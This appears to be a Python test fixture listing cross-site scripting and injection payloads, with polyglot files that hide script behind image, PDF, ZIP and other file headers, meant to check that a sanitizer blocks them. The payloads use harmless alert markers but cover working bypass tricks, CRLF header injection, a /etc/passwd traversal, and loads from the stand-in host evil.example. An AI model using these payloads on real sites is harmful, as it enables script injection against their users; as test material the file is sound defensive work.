"""What strangers might paste so that a reader's browser does their work.

Whatever of it runs sets `window.pwned`, opens a dialog, or asks for an address that no page of ours names.
"""

from __future__ import annotations

JS = "window.pwned=1;alert('pwned')"
_SVG = 'xmlns="http://www.w3.org/2000/svg"'

TEXTS = [
    f"<script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"<ScRiPt\n>{JS}</sCrIpT\t>",
    f"<script src=https://evil.example/x.js></script><script>{JS}</script>",
    f'<img src=x onerror="{JS}">',
    f"<img/src='x'/onerror={JS}//",
    f'"><img src=x onerror="{JS}">',
    f"' autofocus onfocus='{JS}",
    f'" onmouseover="{JS}" style="position:fixed;inset:0',
    f'</title><svg onload="{JS}">',
    f"</textarea><script>{JS}</script><textarea>",
    f"</pre></code></section></main><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"--><script>{JS}</script><!--",
    f"<!--<img src='--><img src=x onerror={JS}>'>",
    f"]]><script>{JS}</script>",
    f'<svg {_SVG} onload="{JS}"/>',
    f"<svg {_SVG}><script>{JS}</script></svg>",
    f'<svg {_SVG}><animate onbegin="{JS}" attributeName=x dur=1s>',
    f'<svg {_SVG}><foreignObject><iframe srcdoc="&lt;script&gt;parent.{JS}&lt;/script&gt;"></foreignObject></svg>',
    f'<?xml version="1.0"?><svg {_SVG}><script href="data:text/javascript,{JS}"/></svg>',
    f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{JS}</x:script>',
    f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#a"?><a id="a"><script>{JS}</script></a>',
    f'<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><body onload="{JS}">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    f'<iframe src="javascript:parent.{JS}"></iframe>',
    f'<object data="data:text/html,<script>{JS}</script>"></object>',
    f'<embed src="data:image/svg+xml,<svg onload={JS} {_SVG}/>">',
    f'<form action="javascript:{JS}"><button autofocus>x</button></form>',
    f'<a href="javascript:{JS}" autofocus>javascript:{JS}</a>',
    f'<base href="https://evil.example/"><link rel=stylesheet href=x.css><script>{JS}</script>',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=prefetch href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x.png)}</style>",
    f'<video><source onerror="{JS}"></video><audio src=https://evil.example/x.mp3 autoplay>',
    f'<details open ontoggle="{JS}">x</details>',
    f'<body onload="{JS}" background=https://evil.example/x.png>',
    f'<input autofocus onfocus="{JS}"><select autofocus onfocus="{JS}">',
    f"<template><script>{JS}</script></template><slot onslotchange={JS}>",
    f"{{{{ ''.__class__ }}}}{{% raw %}}<script>{JS}</script>{{% endraw %}}${{{JS}}}<%= 1 %>",
    f"&lt;script&gt;{JS}&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    f"\u202e\u2066<script>{JS}</script>\u2069\u202c\u200b",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e\u2028\u2029",
    f"a\r\nContent-Type: text/html\r\n\r\n<script>{JS}</script>",
    f"HTTP/1.1 200 OK\r\nSet-Cookie: owner=x\r\n\r\n<script>{JS}</script>",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"\x1b$B<script>{JS}</script>\x1b(B",
    f"{JS}/*<script>*/",
    f"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<script>{JS}",
    "../../../../etc/passwd?<script src=//evil.example>#",
]

POLYGLOTS = [
    f"GIF89a/*<svg {_SVG} onload={JS}>*/=1;{JS}".encode(),
    b"\x89PNG\r\n\x1a\n" + f"<script>{JS}</script>".encode() + b"\0" * 40,
    b"\xff\xd8\xff\xe0\0\x10JFIF\0" + f"<html><body onload={JS}>".encode(),
    b"RIFF\x24\0\0\0WEBPVP8 " + f"<svg {_SVG} onload={JS}>".encode(),
    b"BM" + f"<script>{JS}</script>".encode() + b"\0" * 20,
    b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(" + JS.encode() + b")>>>>endobj\n\0",
    b"\xff\xfe" + f"<script>{JS}</script>".encode("utf-16-le"),
    b"\xfe\xff" + f"<script>{JS}</script>".encode("utf-16-be"),
    b"\xef\xbb\xbf" + f"<!doctype html><script>{JS}</script>".encode(),
    b"\0" + f"<script>{JS}</script>".encode(),
    f"<script>{JS}</script>".encode() + b"\xff\xfe\x80",
    b"PK\x03\x04" + f"<html><script>{JS}</script>".encode() + b"\0" * 30,
]
